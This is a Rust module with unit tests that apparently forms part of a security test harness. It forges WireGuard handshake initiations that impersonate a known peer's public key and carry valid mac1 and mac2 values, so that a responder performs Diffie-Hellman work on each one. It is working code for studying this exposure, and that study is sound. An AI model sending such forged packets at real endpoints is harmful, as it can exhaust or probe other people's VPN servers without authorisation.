//! Forged WireGuard handshake initiations: what a machine that knows only two public keys
//! (both published in MeshNodes and MeshPeers) can send.
//!
//! An initiation names its sender by a static key encrypted under
//! `DH(ephemeral, responder static)`, which the sender computes alone; only the timestamp
//! needs the named peer's private key (whitepaper §5.4.2). A forgery carries the claimed
//! static key, correctly encrypted, a garbage timestamp, a valid mac1 (it needs only the
//! responder's public key) and, once the responder has sent a cookie to the source
//! address, a valid mac2 (§5.4.4, §5.4.7).

use anyhow::{Result, anyhow, ensure};
use blake2::digest::{FixedOutput, KeyInit, Mac as _};
use blake2::{Blake2s256, Blake2sMac, Digest};
use boringtun::x25519::{PublicKey, StaticSecret};
use chacha20poly1305::aead::{Aead, Payload};
use chacha20poly1305::{ChaCha20Poly1305, XChaCha20Poly1305};
use rand_core::{OsRng, RngCore};

/// Length of a handshake initiation (§5.4.2).
pub const INITIATION_LEN: usize = 148;
/// Length of a cookie reply (§5.4.7).
pub const COOKIE_REPLY_LEN: usize = 64;

const CONSTRUCTION: &[u8] = b"Noise_IKpsk2_25519_ChaChaPoly_BLAKE2s";
const IDENTIFIER: &[u8] = b"WireGuard v1 zx2c4 Jason@zx2c4.com";
const LABEL_MAC1: &[u8] = b"mac1----";
const LABEL_COOKIE: &[u8] = b"cookie--";
/// Where mac1 starts in an initiation: everything before it is covered by it.
const MAC1_AT: usize = 116;
/// Where mac2 starts.
const MAC2_AT: usize = 132;

/// Builds forged initiations to one responder that name one of its peers.
pub struct Forger {
    mac1_key: [u8; 32],
    cookie_key: [u8; 32],
    /// Bytes 8..116 of every initiation: one ephemeral key, the claimed static key
    /// encrypted for the responder, a garbage timestamp. The responder spends its
    /// Diffie-Hellman computations on each copy all the same.
    body: Vec<u8>,
}

impl Forger {
    /// Initiations to `responder` that claim to come from `claimed`.
    ///
    /// # Errors
    /// When the AEAD refuses (it does not for these sizes).
    pub fn new(responder: &PublicKey, claimed: &PublicKey) -> Result<Self> {
        let mut ephemeral = [0u8; 32];
        OsRng.fill_bytes(&mut ephemeral);
        let ephemeral = StaticSecret::from(ephemeral);
        let ephemeral_public = PublicKey::from(&ephemeral);
        // §5.4.2, the initiator's steps up to msg.encrypted_static.
        let chaining_key = hash(&[CONSTRUCTION]);
        let h = hash(&[&chaining_key, IDENTIFIER]);
        let h = hash(&[&h, responder.as_bytes()]);
        let h = hash(&[&h, ephemeral_public.as_bytes()]);
        let chaining_key = hmac(
            &hmac(&chaining_key, &[ephemeral_public.as_bytes()]),
            &[&[1]],
        );
        let shared = ephemeral.diffie_hellman(responder);
        let temp = hmac(&chaining_key, &[shared.as_bytes()]);
        let chaining_key = hmac(&temp, &[&[1]]);
        let key = hmac(&temp, &[&chaining_key, &[2]]);
        let encrypted_static = ChaCha20Poly1305::new((&key).into())
            .encrypt(
                &[0u8; 12].into(),
                Payload {
                    msg: claimed.as_bytes(),
                    aad: &h,
                },
            )
            .map_err(|_| anyhow!("sealing the static key"))?;
        let mut timestamp = [0u8; 28];
        OsRng.fill_bytes(&mut timestamp);
        let mut body = Vec::with_capacity(MAC1_AT - 8);
        body.extend_from_slice(ephemeral_public.as_bytes());
        body.extend_from_slice(&encrypted_static);
        body.extend_from_slice(&timestamp);
        ensure!(body.len() == MAC1_AT - 8, "body is {} bytes", body.len());
        Ok(Self {
            mac1_key: hash(&[LABEL_MAC1, responder.as_bytes()]),
            cookie_key: hash(&[LABEL_COOKIE, responder.as_bytes()]),
            body,
        })
    }

    /// An initiation with sender index `index`, and a mac2 when a `cookie` is known.
    pub fn initiation(&self, index: u32, cookie: Option<&[u8; 16]>) -> [u8; INITIATION_LEN] {
        let mut msg = [0u8; INITIATION_LEN];
        msg[0] = 1;
        msg[4..8].copy_from_slice(&index.to_le_bytes());
        msg[8..MAC1_AT].copy_from_slice(&self.body);
        let mac1 = mac(&self.mac1_key, &msg[..MAC1_AT]);
        msg[MAC1_AT..MAC2_AT].copy_from_slice(&mac1);
        if let Some(cookie) = cookie {
            let mac2 = mac(cookie, &msg[..MAC2_AT]);
            msg[MAC2_AT..].copy_from_slice(&mac2);
        }
        msg
    }

    /// The cookie in `reply`, a cookie reply to `initiation` (whose mac1 it is sealed
    /// with; any forger for the same responder opens it), or `None` when it is not one.
    pub fn open_cookie(&self, reply: &[u8], initiation: &[u8; INITIATION_LEN]) -> Option<[u8; 16]> {
        if reply.len() != COOKIE_REPLY_LEN || reply.first() != Some(&3) {
            return None;
        }
        let cookie = XChaCha20Poly1305::new((&self.cookie_key).into())
            .decrypt(
                reply.get(8..32)?.into(),
                Payload {
                    msg: reply.get(32..)?,
                    aad: initiation.get(MAC1_AT..MAC2_AT)?,
                },
            )
            .ok()?;
        cookie.try_into().ok()
    }
}

fn hash(parts: &[&[u8]]) -> [u8; 32] {
    let mut h = Blake2s256::new();
    for part in parts {
        Digest::update(&mut h, part);
    }
    h.finalize().into()
}

fn hmac(key: &[u8], parts: &[&[u8]]) -> [u8; 32] {
    let mut h = <hmac::SimpleHmac<Blake2s256> as KeyInit>::new_from_slice(key)
        .unwrap_or_else(|_| unreachable!("HMAC takes keys of any length"));
    for part in parts {
        h.update(part);
    }
    h.finalize_fixed().into()
}

fn mac(key: &[u8], data: &[u8]) -> [u8; 16] {
    let mut m = <Blake2sMac<blake2::digest::consts::U16> as KeyInit>::new_from_slice(key)
        .unwrap_or_else(|_| unreachable!("keys of 16 and 32 bytes fit BLAKE2s"));
    m.update(data);
    m.finalize_fixed().into()
}

#[cfg(test)]
mod tests {
    use boringtun::noise::handshake::parse_handshake_anon;
    use boringtun::noise::rate_limiter::RateLimiter;
    use boringtun::noise::{Packet, Tunn, TunnResult};

    use super::*;

    #[test]
    fn the_responder_finds_the_claimed_key_and_refuses_the_timestamp() {
        let responder = StaticSecret::from([1u8; 32]);
        let responder_public = PublicKey::from(&responder);
        let claimed = PublicKey::from(&StaticSecret::from([2u8; 32]));
        let forger = Forger::new(&responder_public, &claimed).unwrap();
        let init = forger.initiation(7, None);
        let limiter = RateLimiter::new(&responder_public, 100);
        let mut out = [0u8; 256];
        let Ok(Packet::HandshakeInit(parsed)) = limiter.verify_packet(None, &init, &mut out) else {
            panic!("mac1 does not verify");
        };
        let half = parse_handshake_anon(&responder, &responder_public, &parsed).unwrap();
        assert_eq!(half.peer_static_public, *claimed.as_bytes());
        let mut tunn = Tunn::new(responder, claimed, None, None, 1, None);
        assert!(matches!(
            tunn.decapsulate(None, &init, &mut out),
            TunnResult::Err(_)
        ));
    }

    #[test]
    fn a_cookie_from_the_responder_opens_and_makes_mac2_valid() {
        let responder = StaticSecret::from([1u8; 32]);
        let responder_public = PublicKey::from(&responder);
        let claimed = PublicKey::from(&StaticSecret::from([2u8; 32]));
        let forger = Forger::new(&responder_public, &claimed).unwrap();
        // A limit of 0: every handshake needs a cookie.
        let limiter = RateLimiter::new(&responder_public, 0);
        let source = "198.18.0.3".parse().ok();
        let init = forger.initiation(9, None);
        let mut out = [0u8; 256];
        let reply = match limiter.verify_packet(source, &init, &mut out) {
            Err(TunnResult::WriteToNetwork(reply)) => reply.to_vec(),
            _ => panic!("no cookie reply"),
        };
        let cookie = forger.open_cookie(&reply, &init).unwrap();
        let init = forger.initiation(10, Some(&cookie));
        assert!(limiter.verify_packet(source, &init, &mut out).is_ok());
    }
}
